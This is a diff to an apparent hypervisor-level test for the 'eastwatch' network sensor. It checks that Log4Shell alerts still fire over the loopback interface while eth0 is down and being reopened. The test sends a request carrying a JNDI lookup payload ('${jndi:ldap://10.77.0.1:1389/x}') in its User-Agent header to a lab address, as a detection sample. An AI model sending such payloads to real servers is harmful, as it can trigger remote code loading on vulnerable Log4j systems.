@@ -8,7 +8,9 @@ request of test_hypervisor.py) four times:
   3. after span0 is up again (logged): the same socket captures again;
   4. after span0 (and so eth0) was deleted (logged: the interface failed; reopen attempts fail
      meanwhile) and recreated with its mirror: eastwatch reopened eth0 (logged).
-Then span0 is deleted again and SIGTERM arrives while eastwatch waits to reopen it.
+While eth0 is gone, a request over lo (captured too, `-i lo`) alerts: the other interface's
+capture thread goes on. Then span0 is deleted again and SIGTERM arrives while eastwatch waits
+to reopen it.
 Asserts: eastwatch never exits until SIGTERM, then exits 0 (also while waiting); each state
 change is logged once; the Log4Shell alerts are exactly those of attacks 1, 3 and 4 (three flows,
 by source port); stats.log counts capture.interface-down 3 and capture.reopens 1. Needs root; exits 77 (ctest:
@@ -32,14 +34,14 @@ GUEST1, GUEST2 = "10.77.0.1", "10.77.0.2"
 # One Log4Shell request; prints the client's source port.
 REQUEST = r"""
 import socket, sys
-c = socket.create_connection((sys.argv[1], 8080), timeout=5)
+c = socket.create_connection((sys.argv[1], int(sys.argv[2]) if len(sys.argv) > 2 else 8080), timeout=5)
 c.sendall(b"GET / HTTP/1.1\r\nHost: app\r\nUser-Agent: ${jndi:ldap://10.77.0.1:1389/x}\r\n\r\n")
 c.recv(4096); print(c.getsockname()[1], flush=True); c.close()
 """
 
 
-def request(port_list):
-    result = hvlib.sh(*hvlib.netns(PREFIX, "g1", "/usr/bin/python3", "-c", REQUEST, GUEST2))
+def request(port_list, guest="g1", target=GUEST2, *port):
+    result = hvlib.sh(*hvlib.netns(PREFIX, guest, "/usr/bin/python3", "-c", REQUEST, target, *port))
     port_list.append(int(result.stdout.strip()))
     time.sleep(0.5)  # the ring hands blocks over after its 100 ms timeout
 
@@ -74,8 +76,9 @@ def main():
     host = ["ip", "-n", f"{PREFIX}-host"]
     try:
         hvlib.sh("bash", script, "up", PREFIX)
-        sensor = hvlib.Sensor(PREFIX, [args.eastwatch, "-i", "eth0", "-S", rules, "-l", out,
-                                       "--set", "capture.retry-delay=100ms", "--set", "capture.retry-max=400ms"])
+        sensor = hvlib.Sensor(PREFIX, [args.eastwatch, "-i", "eth0", "-i", "lo", "-S", rules, "-l", out,
+                                       "--set", "capture.retry-delay=100ms", "--set", "capture.retry-max=400ms",
+                                       "--set", "vars.address-groups.HOME_NET=[10.77.0.0/24,127.0.0.0/8]"])
         processes.append(hvlib.start_listener(PREFIX, "g2"))
         seen, unseen = [], []
         request(seen)                                          # 1: up
@@ -89,7 +92,10 @@ def main():
 
         hvlib.sh(*host, "link", "del", "span0")
         sensor.wait_for("interface 'eth0' failed")
-        time.sleep(1.0)                                        # reopen attempts fail meanwhile
+        processes.append(hvlib.start_listener(PREFIX, "sensor", 8081))
+        local = []
+        request(local, "sensor", "127.0.0.1", "8081")          # lo's capture thread goes on meanwhile
+        time.sleep(0.5)                                        # reopen attempts fail meanwhile
         assert "reopened" not in sensor.stderr, sensor.stderr
         hvlib.sh("bash", script, "respan", PREFIX)
         sensor.wait_for("interface 'eth0' reopened")
@@ -105,6 +111,9 @@ def main():
         records = hvlib.read_eve(out)
         alerted = sorted(a["src_port"] for a in hvlib.alerts_of(records)
                          if a["alert"]["signature_id"] == 9000001 and a["dest_ip"] == GUEST2)
+        on_lo = [a["src_port"] for a in hvlib.alerts_of(records)
+                 if a["alert"]["signature_id"] == 9000001 and a["dest_ip"] == "127.0.0.1"]
+        assert on_lo == local, f"the request over lo while eth0 was gone alerted once: {on_lo} vs {local}"
         assert alerted == sorted(seen), f"alerts for the requests while up {sorted(seen)} only: {alerted} " \
                                         f"(unseen while down: {unseen})"
         counters = stats_log(out)
